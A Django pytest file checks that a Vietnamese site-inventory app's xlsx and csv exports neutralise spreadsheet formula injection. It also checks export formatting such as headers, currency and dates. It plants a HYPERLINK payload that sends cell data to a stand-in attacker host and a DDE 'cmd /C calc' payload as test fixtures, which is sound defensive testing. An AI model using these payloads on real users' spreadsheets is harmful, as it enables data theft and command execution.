"""Exports: no live formula from data (xlsx and csv), and tables people can use."""

import csv
import datetime as dt
import io
import zipfile

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from diemcau.core.exports import DATE, VND, ExportColumn, Workbook, csv_text
from diemcau.testing import make_link

PAYLOAD = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")'


def _sheet_xml(content: bytes, name: str = "xl/worksheets/sheet1.xml") -> str:
    return zipfile.ZipFile(io.BytesIO(content)).read(name).decode()


def _all_sheets_xml(content: bytes) -> str:
    archive = zipfile.ZipFile(io.BytesIO(content))
    return "".join(archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/"))


def _csv_rows(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


@pytest.fixture
def planted(province):
    """A commune user's room name and a link's circuit id crafted as formulas."""
    site = province.site_a
    site.room = PAYLOAD
    site.address = "+84 206 3852 000"
    site.save(update_fields=["room", "address"])
    make_link(site, province.vnpt, role="backup", kind="mobile", medium="mobile", circuit_id="@SUM(1+1)*cmd|'/C calc'!A0")
    return site


def test_it_writes_a_text_starting_with_equals_as_a_string_in_the_site_export(planted, province, client_for):
    response = client_for(province.admin).get("/sites/", {"export": "xlsx"})
    xml = _sheet_xml(response.content)
    assert "<f>" not in xml
    sheet = load_workbook(io.BytesIO(response.content)).active
    room = [c for row in sheet.iter_rows() for c in row if c.value == PAYLOAD]
    assert room and all(c.data_type == "s" for c in room)


def test_it_neutralises_formula_cells_in_csv_exports(planted, province, client_for):
    rows = _csv_rows(client_for(province.admin).get("/sites/", {"export": "csv"}))
    cells = [cell for row in rows for cell in row]
    assert "'" + PAYLOAD in cells and PAYLOAD not in cells
    assert "'+84 206 3852 000" in cells
    links = _csv_rows(client_for(province.admin).get("/links/", {"export": "csv"}))
    assert any(cell.startswith("'@SUM") for row in links for cell in row)
    assert not any(cell[:1] in "=+-@" and cell for row in links[1:] for cell in row if not _is_number(cell))


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_it_writes_no_formula_in_the_filled_import_template(planted, province, client_for):
    response = client_for(province.admin).get(reverse("inventory:import_template"), {"filled": "1"})
    assert "<f>" not in _all_sheets_xml(response.content)
    book = load_workbook(io.BytesIO(response.content))
    rooms = [c for row in book["Điểm cầu"].iter_rows() for c in row if c.value == PAYLOAD]
    assert rooms and rooms[0].data_type == "s"


@pytest.mark.parametrize("text, expected", [
    ("=1+1", "'=1+1"), ("+1", "'+1"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"), ("\t=1", "'\t=1"),
    ("\r=1", "'\r=1"), ("  =1+1", "'  =1+1"), ("Hội trường", "Hội trường"), ("a=b", "a=b"), ("", ""),
])
def test_it_neutralises_every_character_owasp_lists(text, expected):
    assert csv_text(text) == expected


def test_it_keeps_numbers_numbers_and_negative_numbers_unprefixed_in_csv(province, client_for):
    make_link(province.site_a, province.vnpt, role="backup", kind="mobile", medium="mobile", down="12.5")
    rows = _csv_rows(client_for(province.admin).get("/links/", {"export": "csv"}))
    assert "12.50" in [cell for row in rows for cell in row]


def test_it_drops_characters_excel_cannot_hold_instead_of_failing(province, client_for):
    site = province.site_a
    site.room = "Phòng\x01 họp\x1f"
    site.save(update_fields=["room"])
    response = client_for(province.admin).get("/sites/", {"export": "xlsx"})
    assert response.status_code == 200
    values = [c for row in load_workbook(io.BytesIO(response.content)).active.iter_rows(values_only=True) for c in row]
    assert "Phòng họp" in values


def test_every_list_export_has_a_bold_frozen_header_an_autofilter_and_widths(province, client_for):
    client = client_for(province.admin)
    for url in ["/sites/", "/devices/", "/links/", "/organizations/", "/incidents/", "/standards/matrix/"]:
        response = client.get(url, {"export": "xlsx"})
        sheet = load_workbook(io.BytesIO(response.content)).active
        assert sheet.freeze_panes == "A2", url
        assert sheet.auto_filter.ref and sheet.auto_filter.ref.startswith("A1:"), url
        assert all(c.font.b for c in sheet[1] if c.value), url
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[1]]
        assert all(6 <= w <= 62 for w in widths), (url, widths)
        name_width = sheet.column_dimensions["B"].width
        assert name_width > 8, url


def test_it_shows_money_with_thousands_separators_and_keeps_it_a_number():
    book = Workbook()
    book.table("Đề xuất", [ExportColumn("Kinh phí (đồng)", VND), ExportColumn("Ngày", DATE)],
               [[12_500_000, dt.datetime(2026, 3, 2, 1, 0, tzinfo=dt.UTC)]])
    sheet = load_workbook(io.BytesIO(book.to_bytes())).active
    money, day = sheet["A2"], sheet["B2"]
    assert money.value == 12_500_000 and money.data_type == "n" and money.number_format == "#,##0"
    assert day.is_date and day.number_format == "dd/mm/yyyy"
    assert day.value.date() == dt.date(2026, 3, 2)


def test_incident_export_writes_dates_as_dates_in_hanoi_time(province, client_for):
    from diemcau.incidents.services import incident_report
    from diemcau.testing import term

    incident = incident_report(site=province.site_a, user=province.tech, symptoms=[term("symptom", "audio_loss")],
                               description="Mất tiếng")
    response = client_for(province.admin).get("/incidents/", {"export": "xlsx"})
    sheet = load_workbook(io.BytesIO(response.content)).active
    reported = sheet["B2"]
    assert reported.is_date and reported.number_format == "dd/mm/yyyy hh:mm"
    local = incident.reported_at.astimezone(dt.timezone(dt.timedelta(hours=7))).replace(tzinfo=None)
    assert abs((reported.value - local).total_seconds()) < 1


def test_the_review_aggregate_formats_costs_as_vnd(province, client_for):
    from diemcau.reviews.views import proposal_columns

    assert next(c for c in proposal_columns() if c.key == "cost").kind == VND


def test_the_sla_report_has_one_usable_table_per_sheet(province, client_for):
    response = client_for(province.staff).get(reverse("incidents:sla_report"), {"export": "xlsx"})
    book = load_workbook(io.BytesIO(response.content))
    for sheet in book.worksheets:
        assert sheet.freeze_panes == "A3" and sheet.auto_filter.ref.startswith("A2:")
        assert all(c.font.b for c in sheet[2] if c.value)
